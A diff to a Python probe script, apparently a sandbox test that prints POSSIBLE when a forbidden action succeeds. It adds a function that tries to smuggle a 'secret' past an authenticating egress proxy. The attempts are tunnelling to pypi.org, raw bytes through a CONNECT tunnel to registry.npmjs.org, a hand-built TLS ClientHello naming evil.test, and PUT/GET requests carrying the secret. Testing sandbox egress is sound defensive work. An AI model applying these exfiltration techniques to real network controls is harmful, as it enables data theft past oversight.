@@ -1,6 +1,6 @@
 # Tries one thing that a foreign program must not be able to do, and prints POSSIBLE where it could. What it is given
 # stands in its environment, as P_...; only the standard library is used.
-import ctypes, errno, glob, os, platform, signal, socket, subprocess, sys, time
+import ctypes, errno, glob, os, platform, signal, socket, struct, subprocess, sys, time
 
 P = {name[2:]: value for name, value in os.environ.items() if name.startswith("P_")}
 
@@ -280,6 +280,49 @@ def past_the_proxy():
         lambda: connected("localhost:443"),
         lambda: ask("GET http://allowed.test/", "allowed.test"),
         lambda: connect(socket.AF_INET, ("127.0.0.1", int(P["TCP"]))),
+    )
+
+
+def upload_by_a_registry():
+    import base64, ssl, urllib.parse
+
+    def echoes(out, sent):
+        out.settimeout(5)
+        out.sendall(sent)
+        return sent in out.recv(100)
+
+    proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", ""))
+    if proxy.username != "run":
+        with socket.create_connection(("127.0.0.1", int(P["ECHO"])), 5) as out:
+            return echoes(out, b"secret")
+    login = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
+
+    def tunnel(host):
+        out = socket.create_connection((proxy.hostname, proxy.port), 5)
+        out.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: Basic {login}\r\n\r\n".encode())
+        return out if out.recv(1000).split(b" ")[1] == b"200" else None
+
+    def speaks(request):
+        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+        with context.wrap_socket(tunnel("registry.npmjs.org"), server_hostname="registry.npmjs.org") as out:
+            out.sendall(request)
+            return b" 403 " not in out.recv(100).split(b"\r\n")[0]
+
+    def names(host):
+        name = struct.pack(">HHHBH", 0, len(host) + 5, len(host) + 3, 0, len(host)) + host
+        body = b"\3\3" + bytes(33) + b"\0\2\x13\1\1\0" + struct.pack(">H", len(name)) + name
+        hello = b"\1" + struct.pack(">I", len(body))[1:] + body
+        return echoes(tunnel("registry.npmjs.org"), b"\x16\3\1" + struct.pack(">H", len(hello)) + hello)
+
+    print("OPEN" if tunnel("registry.npmjs.org") else "CLOSED")
+    head = b"Host: registry.npmjs.org\r\nContent-Length: 6\r\n\r\nsecret"
+    return any_of(
+        lambda: tunnel("pypi.org") is not None,
+        lambda: echoes(tunnel("registry.npmjs.org"), b"secret"),
+        lambda: names(b"evil.test"),
+        lambda: speaks(b"PUT /leafy HTTP/1.1\r\n" + head),
+        lambda: speaks(b"GET /leafy HTTP/1.1\r\n" + head),
+        lambda: speaks(b"GET /leafy?secret HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n"),
     )
 
 
